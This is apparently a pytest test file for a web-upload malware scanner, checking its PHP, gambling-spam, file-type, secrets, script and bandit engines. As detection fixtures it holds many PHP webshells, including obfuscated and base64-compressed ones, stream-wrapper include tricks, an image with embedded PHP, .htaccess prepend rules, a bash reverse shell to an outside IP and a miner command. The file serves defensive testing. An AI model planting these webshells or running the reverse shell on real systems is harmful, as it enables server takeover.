"""The engines one by one: what each finds, and what it leaves alone."""
from __future__ import annotations

import base64
import os
import time
import zlib
from pathlib import Path

import pytest

from scanners.engines import ENGINES
from scanners.engines.bandit import BanditEngine
from scanners.engines.base import BINARY_HEAD_BYTES, FileEngine, content_kind, load
from scanners.engines.php_deobfuscation import normalize
from scanners.engines.php_hidden_loads import find_hidden_loads
from scanners.engines.php_include_targets import Resolver
from scanners.engines.php_source import strip_comments
from scanners.engines.php_taint import Taint
from scanners.findings import Severity, Verdict
from scanners.intake import FileEntry, Tree, open_upload
from scanners.scan import Scanner
from tests.scanners.support import scan_files, verdict_of


def test_registry_holds_every_engine() -> None:
    assert {"clamav", "bandit", "php", "judol", "filetypes", "secrets", "scripts",
            "dockerfile"} <= set(ENGINES)
    for engine in ENGINES.values():
        assert engine.name and callable(engine.scan)


# -- PHP -------------------------------------------------------------------------------------------

PAYLOAD = "if(isset($_POST['c'])){system($_POST['c']);}"


@pytest.mark.parametrize("source", [
    "<?php @eval($_POST['x']);",
    "<?php $c = $_REQUEST['c']; $d = trim($c); exec($d);",
    "<?php $f = 'sys' . 'tem'; $f($_GET['c']);",
    "<?php $f = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109); $f($_GET['x']);",
    '<?php $f = "\\x73\\x79\\x73\\x74\\x65\\x6d"; $f($_POST["q"]);',
    "<?php $f = strrev('metsys'); $f($_GET['c']);",
    "<?php $f = str_rot13('flfgrz'); $f($_GET['c']);",
    "<?php $k = str_replace('q', '', 'sqyqsqtqeqm'); $k($_GET['c']);",
    f"<?php eval(base64_decode('{base64.b64encode(PAYLOAD.encode()).decode()}'));",
    "<?php @eval(gzinflate(base64_decode('"
    + base64.b64encode(zlib.compress(PAYLOAD.encode())[2:-4]).decode() + "')));",
    "<?php $_GET['f']($_GET['c']);",
    "<?php extract($_REQUEST); @$a($b);",
    "<?=@`$_GET[c]`?>",
    "<?php $g = ${'_PO' . 'ST'}; system($g['c']);",
    "<?php file_put_contents($_GET['n'], $_POST['d']);",
    "<?php include('php://input');",
    "<?php $default_action = 'FilesMan'; function wsoEx($in) { return $in; }",
])
def test_php_webshells_are_infected(offline_scanner: Scanner, tmp_path: Path, source: str) -> None:
    findings = scan_files(offline_scanner, tmp_path, {"x.php": source})
    assert verdict_of(offline_scanner.policy, findings, "x.php") == Verdict.INFECTED, findings


@pytest.mark.parametrize("source", [
    "<?php $pdo->exec('DELETE FROM t'); echo htmlspecialchars($_GET['q'] ?? '');",
    "<?php $page = $_GET['p'] ?? 'home'; if (in_array($page, ['home'], true)) "
    "{ include __DIR__ . '/pages/' . $page . '.php'; }",
    "<?php exec('tar czf ' . escapeshellarg($_POST['name']) . ' data');",
    "<?php $m = 'action' . ucfirst($_GET['a']); call_user_func([$this, $m]);",
    "<?php /** Returns `$_POST['action']` for the handler. */ function a() {}",
    "<?php $img = base64_decode($row['foto']); echo $img;",
    "<?php $replace = 'preg_replace'; echo $replace('/a/', 'b', $s);",
])
def test_honest_php_stays_clean(offline_scanner: Scanner, tmp_path: Path, source: str) -> None:
    findings = scan_files(offline_scanner, tmp_path, {"x.php": source})
    assert verdict_of(offline_scanner.policy, findings, "x.php") == Verdict.CLEAN, findings


def test_php_finding_points_at_the_offending_line(offline_scanner: Scanner,
                                                  tmp_path: Path) -> None:
    source = "<?php\n// helper\n$a = 1;\n\nif (isset($_GET['x'])) { system($_GET['x']); }\n"
    findings = scan_files(offline_scanner, tmp_path, {"helper.php": source})
    hit = next(f for f in findings if f.engine == "php")
    assert hit.line == 5
    assert hit.snippet is not None and "system($_GET['x'])" in hit.snippet


def test_deobfuscation_recovers_names_and_payloads() -> None:
    code = strip_comments("<?php $a = 'as'/* x */.'sert'; $b = chr(101).chr(118).chr(97).chr(108);")
    result = normalize(code)
    assert "'assert'" in result.code and "'eval'" in result.code
    assert {"assert"} <= result.built_names
    shell = b"<?php system($_GET['c']); /* " + os.urandom(200).hex().encode() + b" */"
    blob = base64.b64encode(zlib.compress(shell)[2:-4]).decode()
    assert any("system" in p.text for p in normalize(f"<?php $x = '{blob}';").payloads)


def test_taint_follows_input_through_decoders_but_not_lookups() -> None:
    taint = Taint("$a = $_GET['x']; $b = base64_decode(trim($a)); $c = $map[$a]; "
                  "$d = isset($_POST['y']) ? $_POST['y'] : 'id';")
    assert {"$a", "$b", "$d"} <= taint.variables
    assert "$c" not in taint.variables


# -- PHP: where included and evaluated code comes from ---------------------------------------------

WEBSHELL_B64 = base64.b64encode(b"<?php system($_GET['c']);").decode()


@pytest.mark.parametrize("source,rule", [
    ("<?php require 'php://stdin';", "php_include_stream"),
    (f"<?php include 'data://text/plain;base64,{WEBSHELL_B64}';", "php_include_stream"),
    (f"<?php include 'data:text/plain;base64,' . '{WEBSHELL_B64}';", "php_include_stream"),
    ("<?php include 'expect://id';", "php_include_command"),
    ("<?php include 'php://filter/read=convert.base64-decode/resource=uploads/logo.png';",
     "php_include_decode_filter"),
    ("<?php require 'php://filter/string.rot13/resource=cache.php';", "php_include_decode_filter"),
    ("<?php require_once 'phar://uploads/avatar.jpg/x.php';", "php_include_wrapper_media"),
    ("<?php include 'zip://' . __DIR__ . '/files/foto.png#shell.php';", "php_include_wrapper_media"),
    ("<?php include 'compress.zlib://images/bg.gif';", "php_include_wrapper_media"),
    # Wrapper names built from pieces, escapes, decoders, variables and constants.
    ("<?php $p = 'ph' . 'p:/' . '/in' . 'put'; include $p;", "php_include_stream"),
    ("<?php $s = 'ph' . 'p'; $w = $s . '://in' . 'put'; include($w);", "php_include_stream"),
    ('<?php include "\\x70\\x68\\x70\\x3a\\x2f\\x2finput";', "php_include_stream"),
    ("<?php include chr(112) . chr(104) . chr(112) . '://stdin';", "php_include_stream"),
    ("<?php include base64_decode('cGhwOi8vaW5wdXQ=');", "php_include_stream"),
    ("<?php include strrev('tupni//:php');", "php_include_stream"),
    ("<?php define('SRC', 'php://' . 'input'); include SRC;", "php_include_stream"),
    ("<?php include 'ht' . 'tp://cdn.example/x.txt';", "php_include_remote"),
    ("<?php include '/proc/self/environ';", "php_include_system_file"),
    ("<?php include '/var/log/apache2/access.log';", "php_include_system_file"),
    ("<?php include '/var/lib/php/sessions/sess_' . $_COOKIE['PHPSESSID'];",
     "php_include_system_file"),
    ("<?php $c = file_get_contents(__DIR__ . '/img/bg.jpg'); eval('?>' . $c);",
     "php_eval_hidden_file"),
    ("<?php $c = file_get_contents('compress.zlib://cache/x.gz'); eval($c);",
     "php_eval_hidden_file"),
    ("<?php $c = implode('', file('lang/id.txt')); eval($c);", "php_eval_hidden_file"),
    ("<?php $h = fopen('logo.png', 'rb'); $c = fread($h, 99999); eval($c);",
     "php_eval_hidden_file"),
    ("<?php $c = file_get_contents('x.jpg'); $c = substr($c, 100); eval(trim($c));",
     "php_eval_hidden_file"),
])
def test_php_loading_hidden_code_is_infected(offline_scanner: Scanner, tmp_path: Path, source: str,
                                             rule: str) -> None:
    findings = scan_files(offline_scanner, tmp_path, {"loader.php": source})
    assert rule in {f.rule for f in findings if f.path == "loader.php"}, findings
    assert verdict_of(offline_scanner.policy, findings, "loader.php") == Verdict.INFECTED, findings


@pytest.mark.parametrize("source,rule", [
    ("<?php include 'compress.zlib://cache/data.gz';", "php_include_wrapper"),
    ("<?php include 'compress.bzip2://' . __DIR__ . '/x.bz2';", "php_include_wrapper"),
    ("<?php include 'zlib:cache.gz';", "php_include_wrapper"),
    ("<?php include 'glob://modules/*';", "php_include_wrapper"),
    ("<?php include 'phar://' . __DIR__ . '/lib.phar/init.php';", "php_include_wrapper"),
    ("<?php include 'php://filter/resource=config.php';", "php_include_wrapper"),
    ("<?php stream_wrapper_register('var', 'V'); include 'var://payload';", "php_include_wrapper"),
    ("<?php $w = 'compress.' . 'zlib://'; include $w . __DIR__ . '/cache.gz';",
     "php_include_wrapper"),
    ("<?php include $scheme . '://' . $path;", "php_include_wrapper"),
    ("<?php include 'images/logo.png';", "php_include_non_php"),
    ("<?php require $dir . '/x.jpg';", "php_include_non_php"),
    ("<?php include __DIR__ . '/uploads/' . $name . '.gif';", "php_include_non_php"),
    ("<?php $f = 'data/cache.txt'; include $f;", "php_include_non_php"),
    ("<?php $f = $debug ? 'debug.php' : 'assets/fonts/roboto.woff'; include $f;",
     "php_include_non_php"),
    ("<?php include($x ?? 'uploads/b.ico');", "php_include_non_php"),
    ("<?php define('W', __DIR__ . '/widgets/spacer.svg'); include W;", "php_include_non_php"),
    ('<?php include "\\x69mages/\\x6cogo.png";', "php_include_non_php"),
    ("<?php if ($x) include 'a.css'; else require('b.js');", "php_include_non_php"),
    ("<?php include\n  dirname(__FILE__)\n  . '/cache/session.tmp'\n;", "php_include_non_php"),
    ("<?php include 'logs/error.log'; include 'x.dat';", "php_include_non_php"),
    ("<?php require __DIR__ . '/lib/helper';", "php_include_unusual_name"),
    ("<?php include 'config.cfg';", "php_include_unusual_name"),
    ("<?php include '/tmp/cache.php';", "php_include_temp_file"),
    ("<?php $c = file_get_contents($tpl); eval('?>' . $c);", "php_eval_file"),
])
def test_php_loading_unusual_code_is_review(offline_scanner: Scanner, tmp_path: Path, source: str,
                                            rule: str) -> None:
    findings = scan_files(offline_scanner, tmp_path, {"loader.php": source})
    assert rule in {f.rule for f in findings if f.path == "loader.php"}, findings
    assert verdict_of(offline_scanner.policy, findings, "loader.php") == Verdict.REVIEW, findings


@pytest.mark.parametrize("source", [
    "<?php include 'header.php'; require_once __DIR__ . '/vendor/autoload.php';",
    "<?php include 'koneksi.inc'; include 'templates/header.html'; include 'view.tpl'; "
    "include 'layout.phtml'; include \"$theme/footer.htm\";",
    "<?php if (file_exists(ABSPATH . '.maintenance')) { require ABSPATH . '.maintenance'; }",
    "<?php include $page . '.php'; include_once(PLUGIN_DIR . $name . '/init.php');",
    "<?php foreach ($files as $file) { include $file; }",
    "<?php echo 'Please include the logo.png file'; $t = 'include this.txt';",
    "<?php function a() { $file = 'readme.txt'; echo file_get_contents($file); }\n"
    "function b($file) { include $file; }",
    "<?php /* include 'x.png'; */ // include 'y.jpg';\n# require 'z.gif';\n",
    "<?php $url = 'https://example.go.id/'; $logo = 'logo.png'; include $path;",
    "<?php $tpl = file_get_contents('mail.html'); echo strtr($tpl, $vars);",
    "<?php $v = 'lib.v1.2'; require 'vendor/lib-1.2/src/Client.php';",
])
def test_php_ordinary_includes_stay_clean(offline_scanner: Scanner, tmp_path: Path,
                                          source: str) -> None:
    findings = scan_files(offline_scanner, tmp_path, {"page.php": source})
    assert verdict_of(offline_scanner.policy, findings, "page.php") == Verdict.CLEAN, findings


def test_javascript_require_is_not_read_as_a_php_include(offline_scanner: Scanner,
                                                         tmp_path: Path) -> None:
    bundle = 'var x = "<?php echo 1; ?>"; var Parser = require("./Parser"); require("./logo.png");'
    findings = scan_files(offline_scanner, tmp_path, {"app.js": bundle})
    assert not [f for f in findings if f.rule.startswith("php_include")], findings


def test_include_findings_point_at_the_include(offline_scanner: Scanner, tmp_path: Path) -> None:
    source = "<?php\n$w = 'compress.' . 'zlib://';\n\n@include $w . 'up/a.png';\n"
    findings = scan_files(offline_scanner, tmp_path, {"x.php": source})
    hit = next(f for f in findings if f.rule == "php_include_wrapper_media")
    assert hit.line == 4 and hit.snippet == "@include $w . 'up/a.png';"
    assert "disusun" in hit.message


def test_include_targets_resolve_within_their_function() -> None:
    code = strip_comments(
        "<?php function a() { $f = 'x.png'; }\nfunction b() { include $f; }\n"
        "function c() { $g = 'y.txt'; $g = 'y.php'; include $g; }\n"
        "function d() { $h = 'ok.php'; $h = 'bad.ico'; include $h; }\n")
    assert [(hit.rule, hit.line) for hit in find_hidden_loads(code)] == [("php_include_non_php", 4)]
    resolver = Resolver("<?php define('A', 'php:'); define('B', A . '//in' . 'put');")
    assert [t.prefix for t in resolver.targets("B", 70)] == ["php://input"]
    assert [t.text for t in resolver.targets("$unknown . '/x.png'", 0)] == ["\u2026/x.png"]


# -- judol -----------------------------------------------------------------------------------------

def test_gambling_spam_is_review_and_hidden_links_infected(offline_scanner: Scanner,
                                                          tmp_path: Path) -> None:
    page = ("<p>Situs slot gacor hari ini, bocoran rtp slot, togel hongkong, daftar slot88 "
            "maxwin.</p>")
    hidden = ('<p>Berita desa</p><div style="display:none"><a href="https://gacor77.xyz/">'
              "slot gacor</a></div>")
    findings = scan_files(offline_scanner, tmp_path, {"spam.html": page, "news.html": hidden})
    policy = offline_scanner.policy
    assert verdict_of(policy, findings, "spam.html") == Verdict.REVIEW
    assert verdict_of(policy, findings, "news.html") == Verdict.INFECTED


def test_news_about_fighting_gambling_stays_clean(offline_scanner: Scanner,
                                                  tmp_path: Path) -> None:
    article = ("<p>Pemkab membentuk satgas pemberantasan judi online. Warga diminta melaporkan "
               "situs judi slot.</p>")
    findings = scan_files(offline_scanner, tmp_path, {"berita.html": article})
    assert verdict_of(offline_scanner.policy, findings, "berita.html") == Verdict.CLEAN


def test_search_engine_cloaking_is_infected(offline_scanner: Scanner, tmp_path: Path) -> None:
    source = ("<?php if (stripos($_SERVER['HTTP_USER_AGENT'], 'googlebot') !== false) "
              "{ echo file_get_contents('https://spam.example/p.html'); exit; }")
    findings = scan_files(offline_scanner, tmp_path, {"index.php": source})
    assert verdict_of(offline_scanner.policy, findings, "index.php") == Verdict.INFECTED


# -- file types ------------------------------------------------------------------------------------

BIG_PNG = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4096  # 1 MiB, no PHP tag in it


def test_a_big_media_file_without_php_is_read_no_further_than_its_head(tmp_path: Path) -> None:
    image = tmp_path / "foto.png"
    image.write_bytes(BIG_PNG)
    item = load(FileEntry("foto.png", str(image), len(BIG_PNG)), None)
    assert item.kind == "binary" and item.data == BIG_PNG[:BINARY_HEAD_BYTES] and not item.truncated
    image.write_bytes(BIG_PNG + b"<?= `id` ?>")
    item = load(FileEntry("foto.png", str(image), len(BIG_PNG) + 11), None)
    assert item.kind == "php" and len(item.data) == len(BIG_PNG) + 11


@pytest.mark.parametrize("name,content,expected", [
    ("avatar.php.jpg", "<?php echo 1;", Verdict.REVIEW),
    ("x.php;.png", "x", Verdict.REVIEW),
    ("shell.phtml", "<?php echo 1;", Verdict.REVIEW),
    ("tool.pht", "x", Verdict.REVIEW),
    ("program", b"\x7fELF\x02\x01\x01" + b"\x00" * 60, Verdict.REVIEW),
    ("setup.exe", b"MZ" + b"\x00" * 58 + b"\x40\x00\x00\x00" + b"PE\x00\x00" + b"\x00" * 40,
     Verdict.REVIEW),
    ("pixel.gif", b"GIF89a\x01\x00<?php system($_GET['c']); ?>", Verdict.INFECTED),
    (".htaccess", "AddType application/x-httpd-php .jpg .png", Verdict.REVIEW),
    (".htaccess", 'php_value auto_prepend_file "/tmp/x.jpg"', Verdict.REVIEW),
    (".user.ini", "auto_prepend_file = /tmp/.x", Verdict.REVIEW),
    (".htaccess", "AddHandler application/x-httpd-ea-php74 .php .php7", Verdict.CLEAN),
    ("config.php.dist", "<?php return [];", Verdict.CLEAN),
    ("logo.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 64, Verdict.CLEAN),
    # Big media files: only their head is kept, but a PHP tag anywhere in them is still found.
    ("banner.png", BIG_PNG, Verdict.CLEAN),
    ("banner.png", BIG_PNG + b"<?php system($_GET['c']); ?>" + BIG_PNG, Verdict.INFECTED),
    ("installer.dat", b"MZ" + b"\x00" * 58 + (64 + len(BIG_PNG)).to_bytes(4, "little") + BIG_PNG
     + b"PE\x00\x00" + b"\x00" * 40, Verdict.REVIEW),  # its PE header lies far past the head
])
def test_dangerous_file_types(offline_scanner: Scanner, tmp_path: Path, name: str,
                              content: bytes | str, expected: Verdict) -> None:
    findings = scan_files(offline_scanner, tmp_path, {name: content})
    assert verdict_of(offline_scanner.policy, findings, name) == expected, findings


# -- secrets ---------------------------------------------------------------------------------------

def test_secrets_are_review(offline_scanner: Scanner, tmp_path: Path) -> None:
    key = "-----BEGIN RSA PRIVATE KEY-----\n" + "A" * 64 + "\n-----END RSA PRIVATE KEY-----\n"
    findings = scan_files(offline_scanner, tmp_path, {
        "deploy/key.pem": key,
        "app/.env": "APP_KEY=base64:abc\nDB_PASSWORD=Rahasia123\n",
        "app/.env.example": "DB_PASSWORD=\n",
        "db/backup.sql": "-- MySQL dump 10.13\nCREATE TABLE t (id int);\n",
        "conf/s3.php": "<?php $k = 'AKIAIOSFODNN7EXAMPLE';",
    })
    policy = offline_scanner.policy
    for path in ("deploy/key.pem", "app/.env", "db/backup.sql", "conf/s3.php"):
        assert verdict_of(policy, findings, path) == Verdict.REVIEW, path
    assert verdict_of(policy, findings, "app/.env.example") == Verdict.CLEAN


# -- scripts and bandit ----------------------------------------------------------------------------

def test_reverse_shells_and_miners_are_infected(offline_scanner: Scanner, tmp_path: Path) -> None:
    findings = scan_files(offline_scanner, tmp_path, {
        "run.sh": "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n",
        "m.sh": "./x -o stratum+tcp://pool.example.com:3333 -u abc\n",
    })
    assert verdict_of(offline_scanner.policy, findings, "run.sh") == Verdict.INFECTED
    assert verdict_of(offline_scanner.policy, findings, "m.sh") == Verdict.INFECTED


def test_bandit_reports_python_issues(offline_scanner: Scanner, tmp_path: Path) -> None:
    findings = scan_files(offline_scanner, tmp_path, {
        "app/views.py": "import subprocess\n\ndef run(q):\n"
                        "    return subprocess.check_output('grep ' + q, shell=True)\n",
        "app/ok.py": "def add(a, b):\n    return a + b\n",
    })
    hits = [f for f in findings if f.engine == "bandit" and f.path == "app/views.py"]
    assert any(f.rule == "B602" and f.severity == Severity.HIGH and f.line == 4 for f in hits)
    assert verdict_of(offline_scanner.policy, findings, "app/ok.py") == Verdict.CLEAN


def test_bandit_cannot_hang_the_scan(tmp_path: Path) -> None:
    stuck = tmp_path / "stuck-python"
    # The stuck tool also leaves a child behind holding its output open.
    stuck.write_text("#!/bin/sh\nsleep 30 &\nsleep 30\n")
    stuck.chmod(0o755)
    for name in ("a.py", "b.py"):
        (tmp_path / name).write_text("x = 1\n")
    (tmp_path / "huge.py").write_text("x = '" + "a" * 2048 + "'\n")
    tree = Tree(str(tmp_path), [
        FileEntry(name, str(tmp_path / name), (tmp_path / name).stat().st_size)
        for name in ("a.py", "b.py", "huge.py")
    ])
    engine = BanditEngine(max_file_bytes=1024, timeout_seconds=0.5, python=str(stuck))
    started = time.monotonic()
    findings = engine.scan(tree)
    assert time.monotonic() - started < 10
    assert {(f.path, f.rule) for f in findings} == {
        ("a.py", "bandit_timeout"), ("b.py", "bandit_timeout"), ("huge.py", "bandit_skipped_large")}


# -- shared plumbing -------------------------------------------------------------------------------

def test_file_engines_work_alone_on_a_tree(tmp_path: Path) -> None:
    (tmp_path / "up").mkdir()
    (tmp_path / "up" / "x.php").write_text("<?php system($_GET['c']);")
    php = ENGINES["php"]()
    assert isinstance(php, FileEngine)
    with open_upload(tmp_path / "up") as tree:
        findings = php.scan(tree)
    assert any(f.severity == Severity.CRITICAL for f in findings)


def test_content_kind_reads_php_inside_other_files() -> None:
    entry = FileEntry("favicon.ico", "/dev/null", 10)
    assert content_kind(entry, b"<?php eval($x);") == "php"
    assert content_kind(FileEntry("README.md", "/dev/null", 10), b"# x\n<?php x();") == "text"
    assert content_kind(FileEntry("a.png", "/dev/null", 10), b"\x89PNG\r\n") == "binary"


def test_secret_findings_do_not_repeat_the_secret(offline_scanner: Scanner,
                                                  tmp_path: Path) -> None:
    findings = scan_files(offline_scanner, tmp_path, {
        ".env": "DB_PASSWORD=Sup3rRahasia!2024\n",
        "ci.yml": "token: ghp_" + "a1B2c3D4e5" * 4 + "\n",
    })
    snippets = " ".join(f.snippet or "" for f in findings if f.engine == "secrets")
    assert "DB_PASSWORD" in snippets
    assert "Sup3rRahasia" not in snippets and "a1B2c3D4e5a1B2" not in snippets
